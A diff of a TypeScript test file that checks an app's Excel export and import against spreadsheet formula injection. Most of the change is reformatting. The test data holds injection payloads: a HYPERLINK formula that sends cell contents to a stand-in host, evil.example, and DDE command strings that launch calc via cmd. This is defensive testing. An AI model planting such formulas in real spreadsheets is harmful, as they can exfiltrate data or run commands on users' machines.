@@ -6,7 +6,7 @@ import type { ReturnData } from '../../../shared/returns/schema.ts';
 import { comparable, openTestApp, regionsOf, storeReturn, type TestApp } from './helpers/app.ts';
 import { generateReturn } from './helpers/generate.ts';
 
-const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1,2)', '=1+1'];
+const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(1,2)', '=1+1'];
 
 describe('formula injection', () => {
   let app: TestApp;
@@ -15,10 +15,20 @@ describe('formula injection', () => {
   beforeAll(async () => {
     app = openTestApp();
     const { county } = regionsOf(app, 'jinkouhe');
-    const base = generateReturn(app.framework('jinkouhe'), { level: 'county', regionCode: county, year: 2024, seed: 3, noDataShare: 0 });
+    const base = generateReturn(app.framework('jinkouhe'), {
+      level: 'county',
+      regionCode: county,
+      year: 2024,
+      seed: 3,
+      noDataShare: 0,
+    });
     // 无数据 reasons and qualitative notes that look like formulas
     let n = 0;
-    const cells = base.cells.map((c) => (c.sex === 'total' && n < HOSTILE.length && c.item.startsWith('H') ? { ...c, value: null, noData: { reason: HOSTILE[n++] } } : c));
+    const cells = base.cells.map((c) =>
+      c.sex === 'total' && n < HOSTILE.length && c.item.startsWith('H')
+        ? { ...c, value: null, noData: { reason: HOSTILE[n++] } }
+        : c,
+    );
     const qualitative = base.qualitative.map((q, i) => ({ ...q, note: HOSTILE[i % HOSTILE.length] }));
     data = { ...base, cells, qualitative };
     const id = await storeReturn(app, data, 'county', '=cmd|calc');
@@ -52,8 +62,17 @@ describe('formula injection', () => {
   it('reads the same texts back exactly', async () => {
     const target = openTestApp();
     try {
-      await target.call('settings:set-profile', { planId: 'jinkouhe', role: 'county', regionCode: data.regionCode, userName: '' });
-      const result = await target.call('excel:import', { fileName: 'x.xlsx', bytesBase64: bytes.toString('base64'), acceptWarnings: false });
+      await target.call('settings:set-profile', {
+        planId: 'jinkouhe',
+        role: 'county',
+        regionCode: data.regionCode,
+        userName: '',
+      });
+      const result = await target.call('excel:import', {
+        fileName: 'x.xlsx',
+        bytesBase64: bytes.toString('base64'),
+        acceptWarnings: false,
+      });
       expect(result.written).toBe(true);
       const back = await target.call('returns:get', { returnId: result.returnId! });
       expect(comparable(back.data)).toEqual(comparable(data));
